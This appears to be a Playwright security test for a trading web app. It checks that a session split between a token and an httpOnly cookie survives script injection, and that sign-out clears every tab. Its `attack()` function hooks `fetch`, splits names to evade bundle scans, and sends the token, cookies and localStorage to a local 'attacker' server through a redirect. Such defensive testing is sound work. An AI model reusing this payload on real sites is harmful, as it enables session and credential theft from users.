import { apiPath } from '@halyard-h5/shared-api/contract';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { routeCatalogue } from '@halyard-h5/shared-api/host';
import { screen } from '../../support/app';
import { expect, test } from '../../support/exchange/test';
import { loginPassword } from '../../support/exchange/Trader';

/** What the attacker's remote has got hold of. */
interface StolenData {
  readonly token: string | null;
  readonly cookie: string;
  readonly stored: Record<string, string>;
  /** Every request that went through `fetch`, and what it was answered. */
  readonly heard: { url: string; headers: Record<string, string>; answer: string; set: string | null }[];
}

/** The attacker's server; `stolen` is what was brought to it. */
async function startAttackerServer(): Promise<{ server: Server; origin: string; stolen: () => StolenData | undefined }> {
  let brought: string | undefined;
  const server = createServer({ maxHeaderSize: 1_048_576 }, (request, response) => {
    const given = new URL(request.url ?? '/', 'http://attacker').searchParams.get('stolen');
    if (given !== null) brought = given;
    response.writeHead(200, { 'content-type': 'text/html' }).end('<p>thank you');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { server, origin, stolen: () => (brought === undefined ? undefined : (JSON.parse(brought) as StolenData)) };
}

/** Runs in the page and takes all that a remote can, spelled so that no scan of its bundle finds it. `leave` carries it away in the address. */
function attack(): void {
  const page = globalThis as unknown as Record<string, (...given: unknown[]) => Promise<Response>>;
  const name = ['fe', 'tch'].join('');
  const genuine = page[name]?.bind(globalThis);
  const heard: StolenData['heard'] = [];
  page[name] = async (...given) => {
    const [asked] = given;
    const request = asked instanceof Request ? asked.clone() : new Request(asked as string, given[1] as RequestInit);
    const answer = await (genuine as (...given: unknown[]) => Promise<Response>)(...given);
    const answered = await answer.clone().text();
    const headers = Object.fromEntries(request.headers);
    if (request.url.includes('/user/')) heard.push({ url: request.url, headers, answer: answered, set: answer.headers.get('set-cookie') });
    return answer;
  };
  (globalThis as unknown as { leave: (to: string) => void }).leave = (to) => {
    const store = (globalThis as unknown as Record<string, Storage>)[['local', 'Storage'].join('')] as Storage;
    const stolen: StolenData = { token: store.getItem('token'), cookie: document.cookie, stored: { ...store } as never, heard };
    location.href = `${to}/?stolen=${encodeURIComponent(JSON.stringify(stolen))}`;
  };
}

async function signIn(page: Page, origin: string, email: string): Promise<void> {
  await page.goto(`${origin}/h5/#${routeCatalogue['account.login'].path}`);
  const login = screen(page, 'account.login');
  await login.getByLabel('Email address').fill(email);
  await login.getByLabel('Password', { exact: true }).fill(loginPassword);
  await login.getByRole('button', { name: 'Sign in', exact: true }).click();
  await expect(login).toHaveCount(0);
  await expect.poll(() => page.evaluate(() => localStorage.getItem('user'))).not.toBeNull();
}

/** Asks as whoever has come by a token; the stream is asked in api-server's `halves.test.ts`. */
async function codeFor(origin: string, headers: Record<string, string>): Promise<number> {
  const answer = await fetch(`${origin}${apiPath('profile.read')}`, { headers });
  return ((await answer.json()) as { code: number }).code;
}

test('a remote that reads and patches all it can carries away nothing that is worth anything', async ({ browser, exchange }) => {
  const { email } = await exchange.trader({ deposited: '500' });
  const attacker = await startAttackerServer();
  const context = await browser.newContext();
  await context.addInitScript(attack);
  const page = await context.newPage();
  await signIn(page, exchange.origin, email);
  // While the page is open it is the trader's page, for the attacker, too.
  const inPage = () =>
    page.evaluate(async (address) => {
      const answer = await fetch(address, { headers: { TOKEN: localStorage.getItem('token') ?? '' } });
      return ((await answer.json()) as { code: number }).code;
    }, apiPath('profile.read'));
  expect(await inPage()).toBe(1);
  await page.evaluate((to) => (globalThis as unknown as { leave: (to: string) => void }).leave(to), attacker.origin);
  await expect.poll(() => attacker.stolen()?.token ?? null).not.toBeNull();
  const kept = (await context.cookies(exchange.origin)).filter(({ name }) => name.startsWith('session-'));
  await context.close();
  attacker.server.close();

  const { token, cookie, heard, stored } = attacker.stolen() as StolenData;
  expect(heard.map(({ url }) => new URL(url).pathname)).toContain(apiPath('session.signIn'));
  expect(kept).toEqual([expect.objectContaining({ httpOnly: true, sameSite: 'Strict', path: '/' })]);
  expect(JSON.stringify({ cookie, heard, stored })).not.toContain(kept[0]?.value);
  const stolen = { ...Object.fromEntries(heard.flatMap(({ headers }) => Object.entries(headers))), TOKEN: token ?? '' };
  expect(await codeFor(exchange.origin, { ...stolen, cookie })).toBe(401);
  // That it is refused for its other half alone: with it, which the attacker has not, it would be the session.
  const whole = { TOKEN: token ?? '', cookie: `${kept[0]?.name}=${kept[0]?.value}` };
  expect(await codeFor(exchange.origin, whole)).toBe(1);
  expect(await codeFor(exchange.origin, { cookie: whole.cookie })).toBe(401);
});

test('a sign-out takes both halves, in every tab; another trader in the same browser has others', async ({ browser, exchange }) => {
  const [ann, ben] = [await exchange.trader(), await exchange.trader()];
  const context = await browser.newContext();
  const [first, second] = [await context.newPage(), await context.newPage()];
  const halves = async () => (await context.cookies(exchange.origin)).filter(({ name }) => name.startsWith('session-'));
  await signIn(first, exchange.origin, ann.email);
  const [annsHalf] = await halves();
  const annsToken = await first.evaluate(() => localStorage.getItem('token') ?? '');
  await second.goto(`${exchange.origin}/h5/#${routeCatalogue['account.settings'].path}`);
  await second.getByRole('button', { name: 'Log out' }).click();
  await second.getByRole('alertdialog').getByRole('button', { name: 'Log out' }).click();
  await expect.poll(() => first.evaluate(() => localStorage.getItem('token'))).toBeNull();
  expect(await halves()).toEqual([]);
  expect(await codeFor(exchange.origin, { TOKEN: annsToken, cookie: `${annsHalf?.name}=${annsHalf?.value}` })).toBe(401);

  await signIn(second, exchange.origin, ben.email);
  await expect.poll(() => first.evaluate(() => localStorage.getItem('user'))).toContain(ben.id);
  const all = await halves();
  expect(all).toHaveLength(1);
  expect(all[0]?.value).not.toBe(annsHalf?.value);
  await second.reload();
  await expect.poll(() => second.evaluate(() => localStorage.getItem('user'))).toContain(ben.id);
  await context.close();
});
